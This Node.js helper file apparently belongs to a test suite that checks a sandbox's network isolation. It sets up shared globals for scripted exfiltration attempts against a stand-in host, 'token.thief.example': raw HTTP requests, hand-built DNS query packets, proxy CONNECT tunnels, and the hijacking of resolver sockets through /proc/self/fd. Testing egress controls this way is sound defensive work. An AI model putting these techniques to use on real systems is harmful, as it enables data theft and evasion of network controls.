// The names that roads written in Node may use. They are global.
'use strict';
const fs = require('fs');
const net = require('net');

const [API, PLAIN, WRONG, RESOLVER, PROXY] = process.env.ROAD_PLACES.split(' ');
const THIEF = 'token.thief.example';
const seconds = Number(process.env.ROAD_SECONDS || 20);
setTimeout(() => process.exit(9), (seconds + 25) * 1000).unref();

const RAW = 'token: all that there is to take';
const request = (host, path = '/token', lines = '') =>
    `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n${lines}\r\n`;
const labels = (name) => name.split('.').map((label) => String.fromCharCode(label.length) + label).join('');
const question = (name = THIEF) =>
    Buffer.from(`\x12\x34\x01\0\0\x01\0\0\0\0\0\0${labels(name)}\0\0\x01\0\x01`, 'latin1');

// Connect, with a timeout. An error is printed, and ends the program.
const fails = (error) => {
    console.log(error.code || error.name);
    process.exit(1);
};
process.on('uncaughtException', fails);
process.on('unhandledRejection', fails);
const dial = (host = API, port = 443) =>
    new Promise((resolve, reject) => {
        const socket = net.connect(port, host, () => resolve(socket));
        socket.setTimeout(5000, () => socket.destroy());
        socket.on('error', reject);
    });
const heard = (socket) =>
    new Promise((resolve) => {
        socket.once('data', resolve);
        socket.once('close', () => resolve(Buffer.alloc(0)));
    });
// Wait until the data is sent or refused. Then end the program.
const finish = (socket) =>
    new Promise((resolve) => {
        socket.end(() => setTimeout(resolve, 100));
        socket.on('error', resolve);
        socket.on('close', resolve);
    }).then(() => process.exit(0));
// CONNECT, with a header that makes the test's proxy refuse.
const tunnel = async (target, ...lines) => {
    const socket = await dial(PROXY, 3128);
    socket.write([`CONNECT ${target} HTTP/1.1`, `Host: ${target}`, ...lines, '', ''].join('\r\n'));
    const said = await heard(socket);
    console.log(said.toString('latin1', 9, 12));
    return socket;
};

const links = () => {
    const found = new Map();
    for (const fd of fs.readdirSync('/proc/self/fd')) {
        try {
            found.set(Number(fd), fs.readlinkSync(`/proc/self/fd/${fd}`));
        } catch {
            // The fd of the folder itself.
        }
    }
    return found;
};
// Calls act(fd) for fds that lookups of an allowed name opened and for which `wanted(link)` is
// true, until `act` has succeeded `times` times, or until `won(address)` is true for the result of
// a lookup.
const beside = async (wanted, act, times, won = () => false) => {
    const dns = require('dns');
    const before = links();
    const end = Date.now() + seconds * 1000;
    let done = 0;
    while (done < times && Date.now() < end) {
        let pending = 4;
        for (let i = 0; i < 4; i++)
            dns.lookup(API, (_, address) => {
                pending--;
                if (won(address)) done = times;
            });
        for (let i = 0; i < 60 && done < times; i++) {
            for (const [fd, link] of links()) {
                if (before.has(fd) || !wanted(link)) continue;
                try {
                    done += Boolean(act(fd));
                } catch {
                    // The fd is gone, or not connected yet.
                }
            }
        }
        while (pending > 0) await new Promise(setImmediate);
    }
    console.log(done >= times ? 'done' : 'not done');
};

// For roads that may crash the process: takes the road in another process, repeatedly, until one
// exits with 0.
const retried = (act) => {
    if (process.env.ROAD_INNER) return act();
    const options = { env: { ...process.env, ROAD_INNER: '1' }, stdio: ['ignore', 'pipe', 'inherit'] };
    for (let tries = 0; tries < 12; tries++) {
        const done = require('child_process').spawnSync(process.execPath, process.execArgv, options);
        if (done.status !== 0) continue;
        process.stdout.write(done.stdout);
        process.exit(done.status);
    }
    process.exit(10);
};

Object.assign(globalThis, {
    fs, net, API, PLAIN, WRONG, RESOLVER, PROXY, THIEF, RAW, request, question, dial, heard, finish, tunnel, beside, retried,
});
